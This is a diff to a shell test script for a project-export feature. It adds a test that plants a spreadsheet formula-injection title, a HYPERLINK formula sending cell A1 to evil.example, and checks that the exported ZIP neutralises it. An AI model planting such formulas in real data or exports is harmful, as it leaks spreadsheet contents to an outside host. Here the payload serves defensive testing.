@@ -13,6 +13,7 @@ check "template prompt saved with provider and zero cost" \
 
 python3 "$ROLLOY_ROOT/scripts/listen_progress.py" --port "$PGPORT" --db "$WDB" --project "$p" --timeout 60 >"$TMP/listen.out" &
 listener=$!
+# Queue only once the LISTEN is in force (listen_progress.py prints the line after it is).
 for _ in $(seq 100); do grep -q '^listening' "$TMP/listen.out" 2>/dev/null && break; sleep 0.1; done
 grep -q '^listening' "$TMP/listen.out" || fail "the listener did not start: $(cat "$TMP/listen.out")"
 q -c "SET ROLE postgres; SELECT count(*) FROM rolloy.batch_generate('$p', '{\"variants\": 3, \"seed\": 42}')" >/dev/null
@@ -34,6 +35,29 @@ q -c "SELECT encode(rolloy.project_zip('$p'), 'base64')" | base64 -d >"$TMP/proj
 check "ZIP holds the three images under their ad names" "$(unzip -Z1 "$TMP/project.zip" | sed 's/^[0-9]*_//' | sort | tr '\n' ' ')" \
     "OUT_PARK_WALK_JOY_UGC_V01.jpg OUT_PARK_WALK_JOY_UGC_V02.jpg OUT_PARK_WALK_JOY_UGC_V03.jpg "
 unzip -tq "$TMP/project.zip" >/dev/null || fail "ZIP does not test clean"
+
+# Spreadsheet formulas in user text (issue 11): a hostile project title and notes never come out
+# of the ZIP as a formula — no entry name starts one, and any CSV inside (none today) has its
+# formula-leading cells neutralised (src/core/common/csv_cell.hpp).
+q -c "UPDATE rolloy.creative_projects SET title = \$\$=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")\$\$,
+             notes = '@SUM(1+1)' WHERE id = '$p'"
+q -c "SELECT encode(rolloy.project_zip('$p'), 'base64')" | base64 -d >"$TMP/hostile.zip"
+check "a hostile title starts no formula in the ZIP" "$(python3 - "$TMP/hostile.zip" <<'PY'
+import csv, io, sys, zipfile
+lead = tuple("=+-@\t\r\0")
+bad = []
+with zipfile.ZipFile(sys.argv[1]) as z:
+    for name in z.namelist():
+        if name.startswith(lead) or name.split("/")[-1].startswith(lead):
+            bad.append("entry " + name)
+        if name.lower().endswith(".csv"):
+            for row in csv.reader(io.StringIO(z.read(name).decode("utf-8-sig"))):
+                bad += [f"{name}: {cell}" for cell in row if cell.startswith(lead)]
+        elif not name.lower().endswith(".jpg") or b"=HYPERLINK" in z.read(name):
+            bad.append("unexpected content in " + name)
+print("; ".join(bad) or "none")
+PY
+)" "none"
 
 # Regenerating keeps the old image and adds a variant.
 q -c "SELECT rolloy.regenerate_image('$id', 7)" >/dev/null
